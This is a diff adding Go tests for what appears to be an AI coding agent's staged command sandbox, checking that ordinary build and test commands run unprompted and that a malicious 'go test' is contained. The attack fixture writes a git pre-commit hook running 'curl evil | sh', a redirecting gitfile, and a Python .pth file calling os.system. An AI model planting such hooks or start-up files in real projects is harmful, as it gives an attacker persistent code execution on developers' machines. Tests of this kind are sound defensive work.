@@ -1,0 +1,144 @@
+package tools
+
+import (
+	"encoding/json"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// callUnasked runs command through the gateway under the editor's
+// default policy with an approver that says no: the command must be
+// allowed by the analyser, run staged and succeed.
+func (h *stagedHarness) callUnasked(t *testing.T, command string) Result {
+	t.Helper()
+	raw, _ := json.Marshal(map[string]any{"command": command, "timeout_ms": 300000})
+	env := h.env()
+	env.Checkpoint = h.cp
+	res, err := NewRunner(h.reg, env, &RunnerOptions{Allowed: allTools.Allowed, Policy: DefaultPolicy(ProfileEditor), Approver: h.approver}).
+		Call(t.Context(), "run_command", string(raw))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(h.approver.reqs) != 0 {
+		t.Fatalf("%q was asked: %s", command, h.approver.reqs[0].Reason)
+	}
+	if res.IsError || res.ExitCode == nil || *res.ExitCode != 0 {
+		t.Fatalf("%q failed: %s", command, res.Content)
+	}
+	return res
+}
+
+// Issue 21's "done when": an allowed command never fails because of the
+// sandbox, in every ecosystem whose tool is installed here; each runs
+// unasked, passes, and its outputs land (S11).
+func TestStaged_S11_EcosystemsRunUnasked(t *testing.T) {
+	cases := []struct {
+		name, tool string
+		files      map[string]string
+		commands   []string
+		landed     []string
+	}{
+		{"go", "go", map[string]string{
+			"go.mod":               "module example.com/app\n\ngo 1.22\n",
+			"cmd/app/main.go":      "package main\n\nfunc main() { println(Add(1, 2)) }\n\nfunc Add(a, b int) int { return a + b }\n",
+			"cmd/app/main_test.go": "package main\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal()\n\t}\n}\n",
+		}, []string{"go build -o app ./cmd/app", "go build -o bin/app ./cmd/app", "go test -coverprofile=cover.out ./..."},
+			[]string{"app", "bin/app", "cover.out"}},
+		{"cargo", "cargo", map[string]string{
+			"Cargo.toml":  "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
+			"src/main.rs": "fn main() { println!(\"{}\", add(1, 2)); }\n\nfn add(a: i32, b: i32) -> i32 { a + b }\n\n#[test]\nfn adds() { assert_eq!(add(1, 2), 3); }\n",
+		}, []string{"cargo build", "cargo test", "cargo check"}, []string{"Cargo.lock", "target/debug/demo"}},
+		{"node", "node", map[string]string{
+			"package.json": `{"name":"demo","version":"1.0.0","scripts":{"test":"node --test","build":"node build.js"}}`,
+			"add.js":       "module.exports = (a, b) => a + b;\n",
+			"add.test.js":  "const test = require('node:test'); const assert = require('node:assert');\nconst add = require('./add');\ntest('adds', () => assert.strictEqual(add(1, 2), 3));\n",
+			"build.js":     "require('fs').writeFileSync('dist.txt', 'built\\n');\n",
+		}, []string{"npm test", "node --test", "npm run build"}, []string{"dist.txt"}},
+		{"python", "python3", map[string]string{
+			"calc.py":      "def add(a, b):\n    return a + b\n",
+			"test_calc.py": "import unittest\nfrom calc import add\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(1, 2), 3)\n",
+		}, []string{"python3 -m unittest"}, nil},
+		{"make", "make", map[string]string{
+			"Makefile": "out/report.txt:\n\tmkdir -p out && echo ok > out/report.txt\n\ntest: out/report.txt\n\ttest -s out/report.txt\n",
+		}, []string{"make test"}, []string{"out/report.txt"}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			if _, err := exec.LookPath(c.tool); err != nil {
+				t.Skipf("%s is not installed here", c.tool) // the ecosystem's tool: S11 covers those installed
+			}
+			h := newStagedHarness(t, AnswerDeny)
+			os.RemoveAll(filepath.Join(h.root, ".git")) // a real repository: go build stamps its status
+			if out, err := exec.Command("git", "init", "-q", h.root).CombinedOutput(); err != nil {
+				t.Fatalf("git init: %v %s", err, out)
+			}
+			for p, text := range c.files {
+				h.write(t, p, text)
+			}
+			for _, cmd := range c.commands {
+				res := h.callUnasked(t, cmd)
+				if strings.Contains(res.Content, "not landed") {
+					t.Errorf("%q: something did not land: %s", cmd, res.Content)
+				}
+			}
+			for _, p := range c.landed {
+				if !h.exists(p) {
+					t.Errorf("%s did not land", p)
+				}
+			}
+		})
+	}
+}
+
+// Issue 21's headline attack, as it happened: an unasked `go test` whose
+// test code plants a git hook, a gitfile in a submodule directory and a
+// .pth start-up file. The user is asked once about all three, says no,
+// and none of them reaches the workspace; the test's ordinary output
+// lands (S10).
+func TestStaged_S10_GoTestPlantsHooks(t *testing.T) {
+	h := newStagedHarness(t, AnswerDeny)
+	os.RemoveAll(filepath.Join(h.root, ".git"))
+	if out, err := exec.Command("git", "init", "-q", h.root).CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v %s", err, out)
+	}
+	h.write(t, "go.mod", "module example.com/evil\n\ngo 1.22\n")
+	h.write(t, "evil_test.go", `package evil
+
+import (
+	"os"
+	"testing"
+)
+
+func TestPlant(t *testing.T) {
+	os.WriteFile(".git/hooks/pre-commit", []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
+	os.MkdirAll("vendor/lib", 0o755)
+	os.WriteFile("vendor/lib/.git", []byte("gitdir: ../../.git/modules/x\n"), 0o644)
+	os.MkdirAll(".venv/lib/python3.11/site-packages", 0o755)
+	os.WriteFile(".venv/lib/python3.11/site-packages/evil.pth", []byte("import os; os.system('x')\n"), 0o644)
+	os.WriteFile("report.txt", []byte("ok\n"), 0o644)
+}
+`)
+	raw, _ := json.Marshal(map[string]any{"command": "go test ./...", "timeout_ms": 300000})
+	res, err := NewRunner(h.reg, h.env(), &RunnerOptions{Allowed: allTools.Allowed, Policy: DefaultPolicy(ProfileEditor), Approver: h.approver}).
+		Call(t.Context(), "run_command", string(raw))
+	if err != nil || res.ExitCode == nil || *res.ExitCode != 0 {
+		t.Fatalf("go test: %v %s", err, res.Content)
+	}
+	if len(h.approver.reqs) != 1 {
+		t.Fatalf("%d questions, want 1 (go test itself runs unasked, the planted files are held)", len(h.approver.reqs))
+	}
+	for _, p := range []string{".git/hooks/pre-commit", "vendor/lib/.git", ".venv/lib/python3.11/site-packages/evil.pth"} {
+		if !strings.Contains(h.approver.reqs[0].Preview, p) {
+			t.Errorf("the question does not list %s: %s", p, h.approver.reqs[0].Preview)
+		}
+		if h.exists(p) {
+			t.Errorf("%s reached the workspace", p)
+		}
+	}
+	if !h.exists("report.txt") {
+		t.Errorf("the test's report did not land: %s", res.Content)
+	}
+}
